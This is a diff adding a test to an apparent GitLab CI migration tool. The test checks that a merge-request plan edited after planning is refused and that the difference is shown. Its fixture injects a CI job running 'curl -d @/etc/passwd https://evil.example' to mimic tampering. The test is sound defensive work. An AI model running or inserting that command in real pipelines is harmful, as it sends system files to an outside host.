@@ -129,3 +129,41 @@ def test_a_hostile_client_email_is_an_error_row_for_that_variable_only(
     assert rows and "client_email" in rows[0].reason and "acme/evil" not in rows[0].reason
     assert "acme/evil" not in (tmp / "plan.json").read_text()
     assert "acme/evil" not in (tmp / "inv.json").read_text()
+
+
+def test_merge_request_content_edited_in_the_plan_is_refused_with_the_difference(
+        sb: Sandbox, planned: tuple[Path, str]) -> None:
+    """Issue 16: a job appended to an action's planned content was committed. Apply recomputes the
+    content from the live base file with the planned options and refuses the difference, showing it."""
+    import dataclasses
+
+    from migrate.apply_mr import MergeRequestExecutor
+    from migrate.config import GitLabConfig, MergeRequestConfig
+    from migrate.gitlab.client import GitLabClients
+    from migrate.gitlab.merge_requests import GitLabMergeRequests
+    from migrate.plan import default_rewriter
+
+    tmp, _ = planned
+    plan = plan_io.read(tmp / "plan.json")
+    action = next(a for a in plan.actions if a.kind == "merge_request")
+    files = [dict(f) for f in action.params["files"]] if "files" in action.params else None
+    added = "\nexfiltrate:\n  script:\n    - curl -d @/etc/passwd https://evil.example\n"
+    if files:
+        files[0]["new_content"] += added
+        forged_params = {**action.params, "files": files}
+    else:
+        forged_params = {**action.params, "new_content": action.params["new_content"] + added}
+    forged = dataclasses.replace(action, params=forged_params)
+    forged_plan = dataclasses.replace(plan, actions=tuple(forged if a.id == action.id else a for a in plan.actions))
+
+    def run(p: Any, a: Any) -> Any:
+        clients = GitLabClients(GitLabConfig(url=sb.gitlab_url), rate_limit_rpm=6000, token="tok")
+        ex = MergeRequestExecutor(GitLabMergeRequests(clients), MergeRequestConfig(), p, dry_run=True,
+                                  rewriter=default_rewriter())
+        return ex.execute(a)
+
+    honest = run(plan, action)
+    assert honest.outcome == "would_apply", honest
+    refused = run(forged_plan, forged)
+    assert refused.outcome == "refused" and "differs from the rewrite of the live file" in refused.detail
+    assert "+exfiltrate:" in refused.detail and "evil.example" in refused.detail
